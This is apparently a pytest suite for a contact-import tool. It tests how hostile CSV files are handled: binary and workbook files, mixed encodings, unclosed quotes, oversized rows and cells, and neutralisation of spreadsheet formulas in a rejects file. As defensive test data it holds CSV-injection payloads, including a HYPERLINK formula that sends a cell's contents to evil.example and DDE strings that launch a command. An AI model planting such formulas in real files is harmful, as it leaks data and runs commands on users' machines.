"""Hostile files never crash an import (issue 16, item 4): each ends in a clear ImportFailed that
names the file, the line and what to do, with the store unchanged, or in rejected rows with their
reasons. The rejects file keeps the input's encoding, BOM and delimiter, and no cell of it (the
header's included) runs in a spreadsheet, while phone numbers stay readable."""

from __future__ import annotations

import codecs
import csv
import io
import os
import sqlite3
import subprocess
import sys

import pytest
from stores import import_digest

from smsops import i18n, importer, store

GOOD = "Телефон;Имя;Фамилия\r\n+7 912 000-00-01;Анна;Иванова\r\n+7 912 000-00-02;Борис;Петров\r\n"


@pytest.fixture(autouse=True)
def english():
    with i18n.language("en"):
        yield


@pytest.fixture
def stored(home, tmp_path):
    """A store that already holds two contacts (so that "unchanged" means something)."""
    path = tmp_path / "good.csv"
    path.write_bytes(GOOD.encode("cp1251"))
    importer.run(path, importer.Options(consent_source="signup form"), home=home)
    return home


def names(home) -> list[str]:
    conn = sqlite3.connect(store.store_path(home))
    try:
        return [r[0] for r in conn.execute("select first_name from contacts order by contact_id")]
    finally:
        conn.close()


def refused(home, tmp_path, data: bytes, name: str = "hostile.csv", **options) -> importer.ImportFailed:
    """Import ``data``: it must fail with ImportFailed, leave the store as it was and write no rejects."""
    before = import_digest(home)
    path = tmp_path / name
    path.write_bytes(data)
    rejects = tmp_path / "rejects.csv"
    with pytest.raises(importer.ImportFailed) as failed:
        importer.run(path, importer.Options(**options), home=home, rejects=rejects)
    assert import_digest(home) == before
    assert not rejects.exists()
    assert name in str(failed.value)
    return failed.value


def imported(home, tmp_path, data: bytes, **options) -> tuple[importer.Result, bytes]:
    path = tmp_path / "in.csv"
    path.write_bytes(data)
    return importer.run_with_rejects(path, importer.Options(**options), home=home)


def read_rejects(data: bytes, encoding: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(encoding), newline=""), delimiter=delimiter))


# --- Not text at all --------------------------------------------------------------------------


def test_a_binary_file_is_refused_naming_the_line_not_a_decode_traceback(stored, tmp_path):
    data = b"phone,name\n+79120000003,Anna\n" + bytes(range(256)) * 40
    failed = refused(stored, tmp_path, data)
    assert "line 3 holds bytes that text never has: this is a binary file" in str(failed)
    assert "Export the contacts from your CRM as CSV" in str(failed)


def test_control_characters_without_a_nul_are_refused_as_binary(stored, tmp_path):
    data = bytes(b for b in range(1, 32) if b not in b"\t\n\r\x0c") * 200
    assert "this is a binary file" in str(refused(stored, tmp_path, data))


@pytest.mark.parametrize(
    ("start", "what"),
    [
        (b"PK\x03\x04\x14\x00\x06\x00", "is an Excel workbook (.xlsx) or another ZIP archive"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x00\x00", "is an Excel 97-2003 workbook (.xls)"),
        (b"%PDF-1.7\n", "is a PDF document"),
    ],
)
def test_a_workbook_or_a_document_is_named_for_what_it_is(stored, tmp_path, start, what):
    failed = refused(stored, tmp_path, start + b"\x01\x02" * 100, name="contacts.xlsx")
    assert f"contacts.xlsx {what}, not a CSV file" in str(failed)


def test_the_cli_says_why_and_exits_2_without_a_traceback(home, tmp_path):
    path = tmp_path / "export.csv"
    path.write_bytes(b"phone\n\x00\x01\x02\x03binary")
    out = subprocess.run(
        [sys.executable, "-m", "smsops.cli", "import", "contacts", str(path)],
        capture_output=True,
        text=True,
        env={**os.environ, "SMSOPS_HOME": str(home)},
    )
    assert out.returncode == 2
    assert "Traceback" not in out.stderr
    assert "export.csv: line 2 holds bytes that text never has" in out.stderr


# --- Mixed encodings ------------------------------------------------------------------------------


def test_utf8_lines_in_a_windows_1251_file_are_rejected_and_never_garbled(stored, tmp_path):
    data = (
        "Телефон;Имя;Фамилия\r\n".encode("cp1251")
        + "+7 912 000-00-03;Глеб;Орлов\r\n".encode("cp1251")
        + "+7 912 000-00-04;Иван;Ёлкин\r\n".encode()  # "И" holds 0x98, which Windows-1251 lacks
        + "+7 912 000-00-05;Вера;Ли\r\n".encode()
        + "+7 912 000-00-06;Дарья;Котова\r\n".encode("cp1251")
    )
    result, rejects = imported(stored, tmp_path, data)
    assert (result.format.encoding, result.format.delimiter, result.format.mixed) == ("cp1251", ";", True)
    assert (result.new, result.rejected) == (2, {"wrong_encoding": 2})
    assert names(stored) == ["Анна", "Борис", "Глеб", "Дарья"]
    rows = read_rejects(rejects, "cp1251", ";")  # strict: the rejects file is Windows-1251 throughout
    assert rows[0] == ["line", "reason", "explanation", "Телефон", "Имя", "Фамилия"]
    assert [r[0] for r in rows[1:]] == ["3", "4"]
    assert rows[1][3:] == ["+7 912 000-00-04", "Иван", "Ёлкин"]  # readable: decoded as what it is
    assert rows[1][2] == (
        "the line is not in the encoding of the rest of the file "
        "(line 3 is not in Windows-1251; save the file again in one encoding)"
    )


def test_windows_1251_lines_in_a_utf8_file_are_rejected(stored, tmp_path):
    data = (
        "phone,first_name\n+79120000003,Глеб\n+79120000004,Дарья\n".encode()
        + "+79120000005,Вера\n".encode("cp1251")
        + b"+79120000006,Egor\n"
    )
    result, rejects = imported(stored, tmp_path, data)
    assert (result.format.encoding, result.format.mixed) == ("utf-8", True)
    assert (result.new, result.rejected) == (3, {"wrong_encoding": 1})
    rows = read_rejects(rejects, "utf-8", ",")
    assert rows[1][:2] == ["4", "wrong_encoding"] and rows[1][3:] == ["+79120000005", "Вера"]
    assert not rejects.startswith(codecs.BOM_UTF8)  # the input had none
    assert "line 4 is not in UTF-8" in rows[1][2]


def test_a_byte_windows_1251_has_no_letter_for_rejects_its_line(stored, tmp_path):
    data = "Телефон;Имя\n+79120000003;Глеб\n".encode("cp1251") + b"+79120000004;\x98\xc8\n"
    result, rejects = imported(stored, tmp_path, data)
    assert (result.new, result.rejected) == (1, {"wrong_encoding": 1})
    assert read_rejects(rejects, "cp1251", ";")[1][:2] == ["3", "wrong_encoding"]


def test_a_windows_1251_file_whose_words_look_like_utf8_here_and_there_is_not_mixed(home, tmp_path):
    # Cyrillic letters followed by ё, №, » make valid UTF-8 pairs, never whole valid lines
    data = "Телефон;Имя;Адрес\n+79120000003;Пётр;д. №5\n+79120000004;Сёма;«Р»\n".encode("cp1251")
    result, _ = imported(home, tmp_path, data)
    assert (result.format.encoding, result.format.mixed, result.new) == ("cp1251", False, 2)
    assert names(home) == ["Пётр", "Сёма"]


# --- Quotes ------------------------------------------------------------------------------------------


def test_a_quote_that_never_closes_is_refused_naming_the_line_it_opens_on(stored, tmp_path):
    data = b'phone,first_name\n+79120000003,Gleb\n+79120000004,"Darya\n+79120000005,Egor\n+79120000006,Vera\n'
    failed = refused(stored, tmp_path, data)
    assert "hostile.csv: the quote that opens on line 3 never closes" in str(failed)
    assert "Close the quote (or remove it) and import again." in str(failed)


def test_a_quote_left_open_on_the_last_line_is_refused_too(stored, tmp_path):
    failed = refused(stored, tmp_path, b'phone,first_name\n+79120000003,"Gleb')
    assert "the quote that opens on line 2 never closes" in str(failed)


def test_a_quote_left_open_past_the_longest_cell_is_refused_naming_its_line(stored, tmp_path):
    rows = "".join(f"+7912{n:07d},Name{n}\n" for n in range(20_000))
    data = f'phone,first_name\n+79120000003,Gleb\n+79120000004,"Darya\n{rows}'.encode()
    assert "the quote that opens on line 3 never closes" in str(refused(stored, tmp_path, data))


def test_a_quote_that_swallows_the_next_rows_rejects_them_and_says_where(stored, tmp_path):
    data = (
        "Телефон;Имя;Фамилия\n"
        '+79120000003;"Глеб;Орлов\n'  # opened here, closed two lines down
        "+79120000004;Дарья;Котова\n"
        '+79120000005;"Вера";Ли\n'
        "+79120000006;Егор;Лисин\n"
    ).encode("cp1251")
    result, rejects = imported(stored, tmp_path, data)
    assert (result.new, result.rejected) == (1, {"unclosed_quote": 1})
    assert names(stored)[-1] == "Егор"  # no contact named "Глеб;Орлов\n+79120000004;…"
    rows = read_rejects(rejects, "cp1251", ";")
    assert rows[1][:2] == ["2", "unclosed_quote"]
    assert "(the quote opens on line 2 and closes on line 4)" in rows[1][2]
    assert "+79120000004;Дарья;Котова" in rows[1][4]  # the swallowed row is in the rejects file


def test_a_note_with_line_breaks_in_a_custom_column_is_kept(home, tmp_path):
    data = b'phone,first_name,note\n+79120000003,Gleb,"call after 6 pm\nnot on Sundays"\n+79120000004,Egor,\n'
    result, _ = imported(home, tmp_path, data)
    assert (result.new, result.rejected) == (2, {})


def test_a_quote_left_open_in_the_header_is_refused(stored, tmp_path):
    failed = refused(stored, tmp_path, b'phone,"first_name\n+79120000003,Gleb\n')
    assert "a quote opens on line 1 and does not close on it" in str(failed)


# --- Absurd shapes ----------------------------------------------------------------------------------


def test_a_header_of_100000_columns_is_refused_with_the_limit_named(stored, tmp_path):
    header = ",".join(["phone", *(f"c{i}" for i in range(99_999))])
    failed = refused(stored, tmp_path, f"{header}\n+79120000003\n".encode())
    assert "the first line has 100000 columns, more than the 1000 an import reads" in str(failed)
    assert "separated by ','" in str(failed)


def test_the_column_limit_is_an_option(stored, tmp_path):
    failed = refused(stored, tmp_path, b"phone,a,b,c\n+79120000003,1,2,3\n", max_columns=3)
    assert "the first line has 4 columns, more than the 3 an import reads" in str(failed)


def test_a_first_line_longer_than_any_header_is_refused(stored, tmp_path):
    failed = refused(stored, tmp_path, b"phone" + b"x" * 1_100_000 + b"\n+79120000003\n")
    assert "the first line is longer than 1048576 characters" in str(failed)


def test_a_row_of_100000_cells_is_rejected_as_too_many_cells_not_malformed(stored, tmp_path):
    wide = "+79120000004;Дарья" + ";x" * 99_998
    data = f"Телефон;Имя\n+79120000003;Глеб\n{wide}\n+79120000005;Вера;лишнее\n".encode("cp1251")
    result, rejects = imported(stored, tmp_path, data)
    assert (result.new, result.rejected) == (1, {"too_many_cells": 1, "malformed_row": 1})
    rows = read_rejects(rejects, "cp1251", ";")
    assert rows[1][:2] == ["3", "too_many_cells"] and len(rows[1]) == 3 + 100_000
    assert rows[1][2] == (
        "the row has far more cells than a contact export has columns (100,000 cells; at most 1,000 are read)"
    )
    assert rows[2][2] == "the row has a different number of cells than the header (3 cells, the header has 2)"


@pytest.mark.parametrize("size", [40_000, 200_000])  # over Excel's cell, over the csv module's field limit
def test_a_huge_cell_rejects_its_row_and_the_rest_is_imported(stored, tmp_path, size):
    data = f"phone,first_name\n+79120000003,{'Г' * size}\n+79120000004,Дарья\n".encode()
    result, rejects = imported(stored, tmp_path, data)
    assert (result.new, result.rejected) == (1, {"cell_too_long": 1})
    assert names(stored)[-1] == "Дарья"
    rows = read_rejects(rejects, "utf-8", ",")
    assert rows[1][:2] == ["2", "cell_too_long"]
    assert "at most 32,767 are read" in rows[1][2]


def test_the_cell_limit_is_an_option(home, tmp_path):
    result, _ = imported(
        home,
        tmp_path,
        b"phone,first_name\n+79120000003,Konstantinopolsky\n+79120000004,Ira\n",
        max_cell_chars=12,
    )
    assert (result.new, result.rejected) == (1, {"cell_too_long": 1})


# --- The rejects file: as the input was written, and inert in a spreadsheet --------------------------


@pytest.mark.parametrize(
    ("encoding", "delimiter", "bom"),
    [("cp1251", ";", b""), ("utf-8-sig", ",", codecs.BOM_UTF8), ("utf-8", "\t", b""), ("utf-16", ";", None)],
)
def test_rejects_keep_the_inputs_encoding_bom_and_delimiter(home, tmp_path, encoding, delimiter, bom):
    text = delimiter.join(["Телефон", "Имя"]) + "\r\n" + delimiter.join(["нет", "Жанна"]) + "\r\n"
    text += delimiter.join(["+79120000003", "Глеб"]) + "\r\n"
    result, rejects = imported(home, tmp_path, text.encode(encoding))
    assert (result.format.encoding, result.format.delimiter) == (encoding, delimiter)
    if bom is not None:
        assert rejects.startswith(bom + b"line")
    rows = read_rejects(rejects, encoding, delimiter)
    assert rows == [
        ["line", "reason", "explanation", "Телефон", "Имя"],
        ["2", "invalid_phone", "the phone number is not a valid number", "нет", "Жанна"],
    ]


def test_every_cell_a_spreadsheet_would_run_is_neutralised_header_included(home, tmp_path):
    header = ["Телефон", '=HYPERLINK("http://evil.example/?"&A1,"click")', "@cmd", "+SUM(1,2)", "-2+3"]
    rows = [
        ["+7 495 123-45-67", '=HYPERLINK("http://x","y")', "@SUM(A1)", "+cmd|' /C calc'!A0", "-"],
        ["нет", "\t=1+1", "\r=1+1", "-5", "+7 (912) 345-67-89"],
    ]
    buffer = io.StringIO(newline="")
    csv.writer(buffer, delimiter=";").writerows([header, *rows])
    result, rejects = imported(home, tmp_path, buffer.getvalue().encode("cp1251"))
    assert result.rejected == {"not_mobile": 1, "invalid_phone": 1}
    table = read_rejects(rejects, "cp1251", ";")
    assert table[0][3:] == ["Телефон", "'" + header[1], "'@cmd", "'+SUM(1,2)", "'-2+3"]
    # the landline stays a readable number, "-" stays "-"; formulas get a leading quote
    assert table[1][3:] == ["+7 495 123-45-67", "'" + rows[0][1], "'@SUM(A1)", "'+cmd|' /C calc'!A0", "-"]
    assert table[2][3:] == ["нет", "'\t=1+1", "'\r=1+1", "-5", "+7 (912) 345-67-89"]
    runs = ("=", "+", "-", "@", "\t", "\r")
    for row in table:
        for cell in row:
            assert not cell.startswith(runs) or importer._PLAIN_NUMBER.fullmatch(cell), cell


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("+7 912 345-67-89", "+7 912 345-67-89"),
        ("-", "-"),
        ("-12,5", "-12,5"),
        ("+7 912 ***-**-89", "'+7 912 ***-**-89"),  # a masked number is no number
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("=1+1", "'=1+1"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Анна", "Анна"),
        ("", ""),
    ],
)
def test_neutralise_leaves_numbers_readable_and_formulas_inert(cell, shown):
    assert importer.neutralise(cell) == shown


def test_messages_are_translated_on_a_page(home, tmp_path):
    path = tmp_path / "x.csv"
    path.write_bytes(b"\x00\x01")
    with pytest.raises(importer.ImportFailed) as failed:
        importer.run(path, home=home)
    with i18n.language("ru"):
        assert failed.value.translated().startswith(
            "x.csv: в строке 1 есть байты, которых не бывает в тексте"
        )
        explained = importer.explain("too_many_cells", '{"cells": 100000, "max": 1000}')
        assert explained.endswith(f"(ячеек: {i18n.number(100_000)}; читается не больше {i18n.number(1000)})")
